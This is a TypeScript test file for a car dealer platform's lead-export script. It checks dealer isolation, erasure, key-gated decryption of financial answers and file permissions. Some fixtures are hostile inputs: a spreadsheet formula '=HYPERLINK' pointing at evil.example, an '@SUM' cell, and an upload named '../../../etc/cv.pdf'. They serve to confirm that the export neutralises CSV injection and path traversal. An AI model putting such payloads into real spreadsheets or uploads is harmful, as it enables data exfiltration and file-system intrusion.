import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { beforeAll, describe, expect, test } from 'vitest';
import { apiApp } from '../../src/api/api-app.ts';
import { eraseLeads } from '../../src/api/store/leads/lead-changes.ts';
import { storePageSnapshot } from '../../src/api/store/page-snapshot.ts';
import { insertReservation } from '../../src/api/store/reservations/insert-reservation.ts';
import { enqueueStockJob } from '../../src/api/store/stock/enqueue-stock-job.ts';
import { insertValuation } from '../../src/api/store/valuations.ts';
import { buildSite, feedRows, filesIn, sharedTools } from '../builder/build-helpers.ts';
import { enquiry } from '../leads/api-harness.ts';
import { harnessForTests, STORES } from '../leads/harness-for-tests.ts';
import { NOON } from '../leads/lead-harness.ts';
import { DOCUMENTS } from '../support/samples/documents.ts';
import { sampleCars } from '../support/samples/sample-cars.ts';
import { type TemporaryDealer, temporaryDealer } from '../support/temporary-dealer.ts';
import { OFFLINE, runScript } from './run-export.ts';

const tools = sharedTools();
const LEADS_KEY = randomBytes(32).toString('base64');
const OTHER = 'THE OTHER DEALER';

const config = { email: 'sales@sample.example', features: { careers: true, financePreApproval: true } };
/** The other site's slug begins with that of the first. */
const SITES = [
  { slug: 'sample', config },
  { slug: 'sample-two', config: { ...config, origin: 'https://sample-two.example' } },
];

const INCOME = '2718281';
const money = {
  ...{ form: 'finance', page_id: 'finance', name: 'Jo', last_name: 'Smith', email: 'jo@example.com' },
  ...{ phone: '0412 345 678', postcode: '4031', vehicle: '2024 Suzuki Swift', income: INCOME },
  ...{ income_period: 'Each fortnight', finance_consent: 'true' },
};

describe.each(STORES)('%s', kind => {
  const { isPostgres, skips, harness, url } = harnessForTests(kind, SITES);
  let erased = '';
  const request = (site: string, address: string, init: RequestInit) =>
    apiApp({ ...harness(), env: { LEADS_KEY } }).request(`http://${site}.localhost${address}`, {
      method: 'POST',
      ...init,
    });
  const sendJson = async (site: string, address: string, body: object): Promise<string> => {
    const headers = { 'content-type': 'application/json' };
    const response = await request(site, address, { body: JSON.stringify(body), headers });
    const said = await response.json();
    if (response.status !== 201) throw new Error(JSON.stringify(said));
    return said.lead_id;
  };
  const lead = (site: string, message: string, name = 'Jo') => {
    const { car_id: _, url: __, ...plain } = enquiry;
    return sendJson(site, '/api/leads', { ...plain, message, name });
  };
  const careers = async (site: string, name: string) => {
    const { email, phone, postcode, message } = enquiry;
    const body = new FormData();
    const fields = { name, email, phone, postcode, message, category: 'Careers Enquiry' };
    for (const [field, value] of Object.entries(fields)) body.append(field, value);
    body.append('cv', new File([DOCUMENTS.pdf], '../../../etc/cv.pdf'));
    const response = await request(site, '/api/forms', { body, headers: { accept: 'application/json' } });
    expect(response.status).toBe(201);
  };

  /** The same of both sites; the data of the other has a mark. */
  async function fillSite(site: string, mark: string): Promise<void> {
    const { store } = harness();
    await lead(site, `${mark} hello`);
    await lead(site, `=HYPERLINK("https://evil.example/${mark}")`, '@SUM(1+1)');
    await sendJson(site, '/api/forms', { ...money, name: mark || 'Jo' });
    await careers(site, mark || 'Ada');
    const times = { pay_until: NOON, hold_until: NOON };
    const facts = { price: 1, release: null, page_hash: null, lead_id: 'l', amount: 50_000 };
    const more = { currency: 'AUD', authorise: 0, provider: 'sandbox', origin: 'https://sample.example' };
    await store.transact(trx =>
      insertReservation(
        trx,
        {
          ...{ ...times, ...facts, ...more, id: `r-${site}`, token: `OPENS-THE-PAGE-${site}`, site },
          ...{ car_id: 'a1', car_name: `=${mark} Swift`, sender: 'PSEUDONYM' },
        },
        NOON,
      ),
    );
    await store.transact(trx =>
      insertValuation(
        trx,
        {
          ...{ id: `v-${site}`, site, expires_at: NOON, car_id: null, sealed: 'ENCRYPTED' },
          valuation: {
            vehicle: { make: 'Kia', model: 'Rio', badge: null, year: 2020, km: 1 },
            ...{ rego: mark || 'ABC', regoState: null, asking: 1, low: 1, value: 1, high: 1 },
            comparables: [
              { name: 'own car', km: 1, price: 1, path: '/cars/own/' },
              { name: OTHER, km: 1, price: 1, path: null },
            ],
            ...{ answers: null, offer_price: null },
          },
        },
        NOON,
      ),
    );
    const html = `<!doctype html><html><head></head><body>${mark} page</body></html>`;
    await storePageSnapshot(store, { site, hash: `seen.${site}`, html, styles: new Map() });
    const update = {
      kind: 'change',
      contentType: 'application/json',
      body: gzipSync(`{"note":"${mark}"}`),
    } as const;
    await enqueueStockJob(store, { site, webhookId: 'one', update, acceptHeld: false }, NOON);
  }

  beforeAll(async () => {
    if (skips) return;
    await fillSite('sample', '');
    await fillSite('sample-two', OTHER);
    erased = await lead('sample', 'ERASED WORDS');
    await eraseLeads(harness().store, [erased], NOON);
  });
  async function builtDealer(): Promise<{ dealer: TemporaryDealer; kit: string }> {
    const dealer = await temporaryDealer({ stock: feedRows(sampleCars(2)) });
    expect(await buildSite(tools(), dealer)).toMatchObject({ ok: true });
    return { dealer, kit: path.join(path.dirname(dealer.out), 'kit') };
  }
  const exportTo = ({ dealersDir, out }: TemporaryDealer, kit: string, more: string[] = [], env = {}) =>
    runScript(
      'export',
      [
        'sample',
        kit,
        '--dealers',
        dealersDir,
        '--out',
        out,
        '--store',
        path.join(harness().dist, 'store'),
        ...more,
      ],
      { ...(isPostgres ? { DATABASE_URL: url() ?? '' } : OFFLINE), ...env },
    );
  const read = (kit: string, name: string) => fs.readFileSync(path.join(kit, 'leads', name), 'utf8');
  const lines = (kit: string, name: string) =>
    read(kit, name)
      .split('\n')
      .filter(Boolean)
      .map(line => JSON.parse(line));
  const everything = (kit: string) =>
    filesIn(kit)
      // The list of checksums names the assets of the site, whose digests may spell anything.
      .filter(file => !file.startsWith('site/') && file !== 'SHA256SUMS')
      .map(file => fs.readFileSync(path.join(kit, file), 'latin1'))
      .join('\n');

  test.skipIf(skips)('all leads of the dealer and none of another, for people and for programs', async () => {
    const { dealer, kit } = await builtDealer();
    const ran = await exportTo(dealer, kit);
    expect(ran).toMatchObject({
      code: 0,
      stdout: expect.stringContaining(
        'Leads: 5, with 1 files and 1 pages that they were sent from. Reservations: 1. Valuations: 1. Updates of stock: 1.\nLeads whose financial answers are left out: 1.',
      ),
    });
    const all = everything(kit);
    for (const secret of [OTHER, 'OPENS-THE-PAGE', 'PSEUDONYM', 'ENCRYPTED', INCOME, 'ERASED WORDS', 'v1.'])
      expect([secret, all.includes(secret)]).toEqual([secret, false]);
    const leads = lines(kit, 'leads.jsonl');
    expect(leads.map(({ private_answers: said }) => said).sort()).toEqual([
      'left out',
      ...['none', 'none', 'none', 'none'],
    ]);
    expect(leads.find(({ message }) => message === ' hello' || message === 'hello')).toMatchObject({
      site: { slug: 'sample' },
      state: 'accepted',
      deliveries: [{ to: 'sales@sample.example', state: 'waiting', attempts: 0 }],
    });
    expect(leads.find(({ lead_id }) => lead_id === erased)).toMatchObject({
      state: 'erased',
      deliveries: [{}],
    });
    // RFC 4180, and no cell is a formula.
    const table = read(kit, 'leads.csv');
    expect(table).toContain(`"'=HYPERLINK(""https://evil.example/"")"`);
    expect(table).toContain(`'@SUM(1+1)`);
    expect(read(kit, 'reservations.csv')).toContain(`,'= Swift,`);
    expect(lines(kit, 'reservations.jsonl')).toMatchObject([
      { id: 'r-sample', deposit: 50_000, state: 'hold' },
    ]);
    expect(lines(kit, 'valuations.jsonl')).toMatchObject([{ comparables: [{ name: 'own car' }] }]);
    const [cv = '', ...more] = filesIn(path.join(kit, 'leads/files'));
    expect([more, cv]).toEqual([[], expect.stringMatching(/^[\w-]+\/1-cv\.pdf$/)]);
    expect(fs.readFileSync(path.join(kit, 'leads/files', cv)).equals(Buffer.from(DOCUMENTS.pdf))).toBe(true);
    expect(fs.readdirSync(path.join(kit, 'leads/pages'))).toEqual(['seen.sample.html']);
    expect(read(kit, 'pages/seen.sample.html')).toContain(' page</body>');
    const sent = path.join(kit, 'stock-history/received/000001.json.gz');
    expect(gunzipSync(fs.readFileSync(sent)).toString()).toBe('{"note":""}');
    const modes = ['', 'leads', 'leads/leads.jsonl', 'leads/leads.csv', `leads/files/${cv}`].map(
      name => fs.statSync(path.join(kit, name)).mode & 0o777,
    );
    expect(modes).toEqual([0o700, 0o700, 0o600, 0o600, 0o600]);
  });

  test.skipIf(skips)('[K26] Financial answers are written only on request and with the key.', async () => {
    const { dealer, kit } = await builtDealer();
    const refused = await exportTo(dealer, kit, ['--private-answers']);
    expect(refused).toMatchObject({ code: 1, stderr: expect.stringContaining('LEADS_KEY') });
    const wrong = { LEADS_KEY: randomBytes(32).toString('base64') };
    const unopened = await exportTo(dealer, kit, ['--private-answers'], wrong);
    expect(unopened).toMatchObject({ code: 1, stderr: expect.stringContaining('need the key') });
    expect(fs.readdirSync(path.dirname(kit)).filter(name => name.startsWith('kit'))).toEqual([]);
    expect(await exportTo(dealer, kit, ['--private-answers'], { LEADS_KEY })).toMatchObject({
      code: 0,
      stdout: expect.stringContaining('Leads whose financial answers are in leads.jsonl, decrypted: 1.'),
    });
    expect(read(kit, 'leads.jsonl')).toContain(INCOME);
    expect(read(kit, 'leads.csv')).not.toContain(INCOME);
    expect(everything(kit)).not.toContain(LEADS_KEY);
  });
});
